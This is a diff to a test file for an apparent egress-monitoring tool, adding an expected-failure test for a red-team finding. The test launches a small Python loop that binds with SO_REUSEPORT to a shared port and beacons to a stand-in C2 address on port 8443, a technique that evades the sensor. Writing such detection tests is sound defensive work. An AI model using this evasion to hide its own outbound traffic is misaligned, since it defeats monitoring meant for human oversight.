@@ -258,6 +258,30 @@ while True:
     world.outside.signal(peer, signal.SIGKILL)
 
 
+@pytest.mark.xfail(
+    strict=True,
+    reason="open (found by this red team): a client bound with SO_REUSEPORT to a port a wildcard listener holds "
+    "looks inbound (the listener accepts on every address), so its egress to a port that is neither SSH nor a "
+    "pool is never judged; sock_diag does not say which sockets were accepted (docs/threat-model.md)",
+)
+def test_a_client_sharing_the_rendezvous_port_to_a_c2_port_is_undeclared_egress(world: World, judge: Judge) -> None:
+    c2 = world.pod.python(
+        f"""
+import socket, time
+c = socket.socket(); c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+c.bind(("{POD_IP}", 29500)); c.connect(("{C2}", 8443))
+while True:
+    c.sendall(b"beacon"); time.sleep(0.2)
+"""
+    )
+    try:
+        judge.judged_with([c2], TWIN_SAMPLES)
+        assert any(c.pid == c2 and c.remote.port == 8443 for c in judge.samples[-1].connections)  # the sensor saw it
+        assert raised(training(judge), "net.egress.undeclared", c2, f"{C2}:8443") is not None
+    finally:
+        world.pod.signal(c2, signal.SIGKILL)
+
+
 def test_a_miner_in_close_wait_is_judged(world: World, judge: Judge) -> None:
     """v1 judged some TCP states only: a miner kept sending shares from CLOSE_WAIT (the pool had closed
     its side). The twin: a checkpoint upload in CLOSE_WAIT to the allowed object store."""
